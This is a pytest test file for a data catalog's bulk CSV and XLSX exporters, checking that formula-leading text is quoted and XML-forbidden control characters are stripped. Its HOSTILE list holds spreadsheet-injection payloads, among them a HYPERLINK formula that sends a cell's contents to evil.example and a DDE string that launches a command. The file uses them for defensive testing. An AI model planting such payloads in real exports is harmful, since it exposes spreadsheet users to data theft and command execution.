"""Every text cell of every exporter is safe to open: formula-leading text is quoted and the
characters XML 1.0 forbids are gone (items 13 and 18 of the security and fault probe)."""

import csv
import io
import re

import openpyxl
import pytest

from catalog.models import Field, Table, Tag, TagCategory
from governance.bulk import formats
from governance.cells import FORMULA_PREFIXES, safe_cell
from governance.testing import client_for, make_user
from lineage.models import FieldLineageEdge, LineageEdge
from sources.models import DataSource

NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+2",
    "\r=1+2",
    "\x00=1+2",  # a formula once the NUL is gone
    "\x01\x02=cmd",
    "plain\x00text\x1f with\x0bcontrols\x7f",
    "\x0c@x",
]


def assert_safe(value, where):
    if not isinstance(value, str):
        return
    assert not NOT_XML.search(value), f"{where}: {value!r} holds a character XML forbids"
    assert not value.startswith(FORMULA_PREFIXES), f"{where}: {value!r} would run as a formula"


@pytest.mark.parametrize("value", HOSTILE)
def test_safe_cell_removes_what_xml_forbids_then_quotes_formulas(value):
    cell = safe_cell(value)
    assert_safe(cell, "cell")
    clean = NOT_XML.sub("", value)
    assert formats.unescape(cell) == clean  # what an import reads back
    assert safe_cell(12) == 12 and safe_cell(0.5) == 0.5 and safe_cell(None) is None


def hostile_records(value):
    """One table with one field and one edge with one field edge, every key of every flat
    column set to `value` (tags and classifications as lists of it)."""

    def record(columns, level):
        item = {}
        for _, lv, key in columns:
            if lv == level:
                item[key] = value
        return item

    table = record(formats.CATALOG_COLUMNS, "table")
    table["tags"] = [value, f"Tier.{value}"]
    field = record(formats.CATALOG_COLUMNS, "field")
    field["tags"] = [value]
    field["classifications"] = [{"rule": value, "tag": value}]
    table["fields"] = [field]
    bare = {**record(formats.CATALOG_COLUMNS, "table"), "tags": [value], "fields": []}
    edge = record(formats.LINEAGE_COLUMNS, "edge")
    edge["fields"] = [record(formats.LINEAGE_COLUMNS, "field")]
    return [table, bare], [edge]


def csv_cells(tables, edges):
    text = "".join(formats.write_csv(tables, edges))
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    header = rows[0]
    return [(header[i], cell) for row in rows[1:] for i, cell in enumerate(row)]


def xlsx_cells(tables, edges):
    buffer = io.BytesIO()
    formats.write_xlsx(tables, edges, buffer)
    book = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))
    cells = []
    for sheet in book.worksheets:
        header = [c.value for c in sheet[1]]
        for row in sheet.iter_rows(min_row=2):
            for index, item in enumerate(row):
                assert item.data_type != "f", f"{sheet.title}!{item.coordinate} is a formula"
                cells.append((f"{sheet.title}.{header[index]}", item.value))
    return cells


@pytest.mark.parametrize("writer", [csv_cells, xlsx_cells], ids=["csv", "xlsx"])
@pytest.mark.parametrize("value", HOSTILE)
def test_every_column_of_every_flat_format_is_safe(writer, value):
    cells = writer(*hostile_records(value))
    columns = {column for column, _ in cells}
    expected = {c for c, _, _ in formats.CATALOG_COLUMNS + formats.LINEAGE_COLUMNS}
    assert {c.split(".")[-1] for c in columns} >= expected  # every column was walked
    for column, cell in cells:
        assert_safe(cell, column)


@pytest.fixture
def hostile_catalog(db):
    """A catalog whose every text field, tags included, starts like a formula or carries a
    control character (storable on every database: no NUL)."""
    admin = make_user("root", superuser=True)
    shop = DataSource.objects.create(name="=shop", kind="postgresql", host="db.example.com")
    values = iter(v for v in HOSTILE if "\x00" not in v)
    tags = []
    for prefix in ("=HYPERLINK(", "+cmd", "-2", "@SUM", "\tx", "\rx", "\x01x"):
        category, _ = TagCategory.objects.get_or_create(name=f"{prefix}cat")
        tags.append(Tag.objects.create(category=category, name=f"{prefix}tag"))
    up = Table.objects.create(source=shop, schema="+s", name="-up", description=next(values))
    down = Table.objects.create(
        source=shop,
        schema="@s",
        name="\tdown",
        description=next(values),
        comment=next(values),
        purpose=next(values),
        data_domain="=dom",
        residency_region="+eu",
        view_definition=next(values),
    )
    up.tags.set(tags[:1])
    down.tags.set(tags)
    a = Field.objects.create(table=up, name="=a", native_type="-int", foreign_key="@x")
    a.tags.set(tags[1:2])
    b = Field.objects.create(
        table=down,
        name="+b",
        data_type="=t",
        default="-1",
        description=next(values),
        comment="\x02\x03@c",
    )
    b.tags.set(tags)
    edge = LineageEdge.objects.create(upstream=up, downstream=down, status="approved")
    FieldLineageEdge.objects.create(
        edge=edge, upstream=a, downstream=b, transformation="=SUM(A1)\x01"
    )
    return admin


def read_cells(fmt, content):
    """(column name, value) of every data cell of an exported CSV or XLSX file."""
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        return [(rows[0][i], cell) for row in rows[1:] for i, cell in enumerate(row)]
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = []
    for sheet in book.worksheets:
        header = [c.value for c in sheet[1]]
        for row in sheet.iter_rows(min_row=2):
            for index, item in enumerate(row):
                assert item.data_type != "f", f"{sheet.title}!{item.coordinate} is a formula"
                cells.append((header[index], item.value))
    return cells


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_of_a_hostile_catalog_open_safely(hostile_catalog, fmt):
    response = client_for(hostile_catalog).get("/api/v1/bulk/export", {"format": fmt})
    assert response.status_code == 200
    cells = read_cells(fmt, b"".join(response.streaming_content))
    for column, cell in cells:
        assert_safe(cell, column)
    tags = {(column, cell) for column, cell in cells if column in ("table_tags", "field_tags")}
    assert ("table_tags", "'=HYPERLINK(cat.=HYPERLINK(tag") in tags
    assert ("field_tags", "'+cmdcat.+cmdtag") in tags
    transformations = {cell for column, cell in cells if column == "transformation" and cell}
    assert transformations == {"'=SUM(A1)"}
